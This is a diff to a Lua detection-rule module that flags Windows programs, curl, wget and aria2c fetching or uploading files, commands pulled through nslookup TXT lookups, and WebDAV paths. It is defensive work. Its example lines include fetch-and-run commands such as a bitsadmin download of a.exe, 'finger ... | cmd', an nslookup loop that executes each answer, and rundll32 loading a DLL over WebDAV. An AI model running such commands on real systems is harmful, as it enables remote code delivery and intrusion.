@@ -1,19 +1,24 @@
--- Programs that fetch files or send them, told to do so: of Windows, and curl and wget. One row, one rule.
+-- Programs that fetch files or send them, told to do so: of Windows, and curl, wget and their like. One row, one rule.
 
 local command = require "kaiseki.detect.command"
+local lineage = require "kaiseki.detect.lineage"
+local places = require "kaiseki.detect.places"
 local tools = require "kaiseki.detect.tools"
+local trusted = require "kaiseki.detect.trusted"
+local lolbins = require "kaiseki.windows.lolbins"
 
 local url, user_file = tools.url, tools.user_file
 
 local function certutil_target(each)
-    if each:has("-urlcache", "-verifyctl", "-url") and url(each) then return url(each) end
+    if each:has("-urlcache", "-verifyctl", "-url", "-ping", "-f", "-split") and url(each) then return url(each) end
     return nil
 end
 
 -- Options of curl (case matters) and wget that send what they name.
 local SENDS = {
     ["-F"] = true, ["-T"] = true, ["-d"] = true, ["--form"] = true, ["--upload-file"] = true, ["--data"] = true,
-    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true,
+    ["--data-binary"] = true, ["--post-file"] = true, ["--body-file"] = true, ["--data-raw"] = true,
+    ["--data-urlencode"] = true, ["--json"] = true, ["--form-string"] = true,
 }
 
 local function sends(each)
@@ -52,14 +57,55 @@ local function sent_file(each)
     return nil
 end
 
+-- An address as curl and wget also take it, without its scheme: "203.0.113.5/a", "x.example/a".
+local function bare_address(each)
+    for at = 2, #each.words do
+        local word = each.words[at]
+        local is_option = word:find "^%-" ~= nil or each.words[at - 1]:find "^%-[oHAbeuxX]$" ~= nil
+        if not is_option and word:find "^[%w-]+%.[%w.-]+[:/]%S*$" then return word end
+    end
+    return nil
+end
+
+local function address(each) return url(each) or bare_address(each) end
+
 -- Where a tool uploads a file to.
-local function upload_target(each) return sent_file(each) and url(each) or nil end
+local function upload_target(each) return sent_file(each) and address(each) or nil end
 
 local function uploaded(line)
     return command.first(line, function(each)
         local file = sent_file(each)
         return file and { name = each.program, file = file }
     end) or {}
+end
+
+local KEEPS = { ["-O"] = true, ["-OJ"] = true, ["-LO"] = true, ["--remote-name"] = true, ["-JO"] = true }
+
+-- Whether what comes is kept as a file, of whatever name, or run at once.
+local function is_kept(each)
+    if each:has("--output", "--output-document", "--dir") or each.text:find "%s>%s*%S" then return true end
+    for at = 2, #each.words do
+        local word = each.words[at]
+        if KEEPS[word] or word:find "^%-%a*[oO]$" then return true end
+    end
+    return each.program == "wget" and not each.text:find "%s%-O%s*%-"
+end
+
+local function fetched(each, case)
+    if sends(each) then return nil end
+    local from = address(each)
+    return from and (is_kept(each) or user_file(each, case)) and from or nil
+end
+
+-- Developers and setup programs fetch with the same tools; it says more where it lands among a user's files, and of the
+-- sample's tree.
+local function excuse(finding, case)
+    if tools.in_tree(finding) then return nil end
+    if trusted.is_bystander(case, finding.process) then return "low" end
+    for _, event in ipairs(finding.events) do
+        if places.in_user_place(event.child.command_line, case) then return nil end
+    end
+    return "medium"
 end
 
 local ROWS = {
@@ -87,13 +133,148 @@ local ROWS = {
       verb = "transfer-with-tool", name = "bitsadmin",
       match = [[bitsadmin /transfer job http://203.0.113.5/a.exe C:\Users\x\a.exe]],
       no_match = "bitsadmin /list" },
-    { id = "command-and-control.curl", programs = { "curl", "wget" }, attack = "T1105",
-      target = function(each, case)
-          return not sends(each) and url(each) and user_file(each, case) and url(each) or nil
-      end,
-      verb = "download-with-tool", means = "tool",
+    { id = "command-and-control.curl", programs = { "curl", "wget", "aria2c" }, attack = "T1105", target = fetched,
+      verb = "download-with-tool", means = "tool", role = "url", excuse = excuse,
       match = [[curl -s http://203.0.113.5/a.exe -o C:\Users\x\AppData\Local\Temp\a.exe]],
+      other = [[cmd /c curl -sLO 203.0.113.5/a.bat]],
       no_match = "curl http://203.0.113.5/status" },
 }
 
 for _, row in ipairs(ROWS) do rule(tools.rule(row)) end
+
+local FETCHES = tools.by_program(lolbins.FETCHES)
+
+-- The program and what it is told to fetch from where.
+local function told(line, case)
+    return command.first(line, function(each)
+        local target, row = tools.told(FETCHES, each, case)
+        return target and { program = each.program, target = target, technique = row[2] }
+    end)
+end
+
+rule {
+    id = "command-and-control.fetching-program",
+    title = "Program of Windows made to fetch a file",
+    severity = "high",
+    attack = tools.techniques(lolbins.FETCHES),
+    description = "A program of Windows that has other work is told to fetch a file from the web or from another "
+        .. "machine: a certificate tool, a printer's helper, an old protocol's client.",
+    references = { "https://attack.mitre.org/techniques/T1105/", "https://lolbas-project.github.io/" },
+    false_positives = { "Administrators who copy from a share with such a tool." },
+    author = "kaiseki",
+    match = operation:is "Process Create" & child.command_line:contains(tools.names(lolbins.FETCHES)),
+    on_event = function(event, case)
+        local what = told(event.child.command_line, case)
+        if not what then return end
+        case:finding { process = lineage.requester(event.process), key = what.program .. " " .. what.target,
+                       event = event, technique = what.technique,
+                       severity = not places.has_url(what.target) and what.target:find("\\", 1, true) and "medium"
+                           or nil }
+    end,
+    excuse = excuse,
+    finding = function(finding)
+        local program, target = finding.key:match "^(%S+) (.*)$"
+        local facts = { "fetch-with-program", name = program, through = tools.through(finding) }
+        facts[tools.role_of(target)] = target
+        return facts
+    end,
+    examples = {
+        match = {
+            tools.example [[finger a@203.0.113.5]], tools.example [[ftp -s:C:\Users\Public\f.txt]],
+            tools.example [[cmd /c finger vke@finger.example | cmd]],
+            tools.example [[desktopimgdownldr /lockscreenurl:http://203.0.113.5/a /eventName:x]],
+            tools.example [[MpCmdRun.exe -DownloadFile -url https://x.example/a -path C:\Users\x\a.exe]],
+        },
+        no_match = {
+            tools.example [[expand -F:* C:\Windows\Temp\a.cab C:\Windows\Temp\b]], tools.example [[finger]],
+            tools.example [[MpCmdRun.exe -SignatureUpdate]],
+        },
+    },
+}
+
+-- What nslookup asks for by another name than an address' own: texts, or of a server that the command names.
+local function name_text(each)
+    if each.program ~= "nslookup" then return nil end
+    local kind = each.folded:match "[-/]q%a*=(%a+)"
+    return (kind == "txt" or kind == "any" or kind == "null") and (each.words[#each.words]) or nil
+end
+
+local function piped_names(line)
+    local piped = line:lower():find("nslookup.-[|)]") ~= nil
+    return command.first(line, function(each)
+        if each.program == "nslookup" and piped and #each.words > 2 then return each.words[#each.words] end
+        return name_text(each)
+    end)
+end
+
+rule {
+    id = "command-and-control.names-carry-commands",
+    title = "Text asked of a name server by command",
+    severity = "medium",
+    attack = { "T1071.004", "T1105" },
+    description = "nslookup asks for texts, or hands what a named server answers on to a shell: commands that come as "
+        .. "names, past whoever watches the web.",
+    references = { "https://attack.mitre.org/techniques/T1071/004/" },
+    false_positives = { "Administrators who look at the records of a domain." },
+    author = "kaiseki",
+    match = operation:is "Process Create" & child.command_line:contains "nslookup",
+    on_event = function(event, case)
+        local what = piped_names(event.child.command_line)
+        if what then case:finding { process = lineage.requester(event.process), key = what, event = event } end
+    end,
+    excuse = function(finding) return not tools.in_tree(finding) and "low" or nil end,
+    finding = function(finding)
+        return { "ask-names-by-command", command = finding.events[1].child.command_line }
+    end,
+    examples = {
+        match = {
+            tools.example [[nslookup -q=txt stage.x.example]],
+            tools.example [[cmd /c for /f "skip=1 delims=" %a in ('nslookup x 84.21.1.9') do call %a]],
+        },
+        no_match = { tools.example "nslookup www.example.com", tools.example "nslookup -q=mx example.com" },
+    },
+}
+
+-- "\\host@SSL@443\DavWWWRoot\...", and the address in the command that Windows' own client starts for it.
+local function web_folder(each)
+    local host, rest = each.text:match [[\\([%w.-]+)(@[^\%s"]*)\]]
+    if not host then
+        host, rest = each.text:match [[\\([%w.-]+)\([dD][aA][vV][wW][wW][wW][rR][oO][oO][tT])]]
+    end
+    if host then return rest:find "^@" and host .. rest:lower():gsub("@ssl", ""):gsub("@", ":") or host end
+    if each.program == "rundll32" and each.folded:find("davsetcookie", 1, true) then
+        return each.text:match "[hH][tT][tT][pP][sS]?://([^%s/\"]+)"
+    end
+    return nil
+end
+
+rule {
+    id = "command-and-control.web-folder",
+    title = "Folder of a web server opened as a share",
+    severity = "high",
+    attack = { "T1105", "T1071.001" },
+    description = "A command names a file or folder of a web server as if it lay on a share (WebDAV), so that it runs "
+        .. "from there and no browser marks it.",
+    references = { "https://attack.mitre.org/techniques/T1105/" },
+    false_positives = { "Libraries of documents on a company's server, connected as drives." },
+    author = "kaiseki",
+    match = operation:is "Process Create" & child.command_line:contains { "@", "davwwwroot", "DavSetCookie" }
+        & (child.command_line:contains { "davwwwroot", "DavSetCookie" } | child.command_line:regex [[\\\\[\w.-]+@]]),
+    on_event = function(event, case)
+        local host = command.first(event.child.command_line, web_folder)
+        if not host then return end
+        case:finding { process = lineage.requester(event.process), key = host:lower(), event = event,
+                       severity = host:lower():find "sharepoint%.com" and "low" or nil }
+    end,
+    finding = function(finding)
+        return { "open-web-folder", host = finding.key, command = finding.events[1].child.command_line }
+    end,
+    examples = {
+        match = {
+            tools.example [[rundll32 \\203.0.113.5@80\dav\a.dll,Run]],
+            tools.example [[net use * \\x.example@SSL\DavWWWRoot\a]],
+            tools.example [[rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie x.example https://x.example/a]],
+        },
+        no_match = { tools.example [[net use H: \\fs01\home]], tools.example "git clone git@x.example:a.git" },
+    },
+}
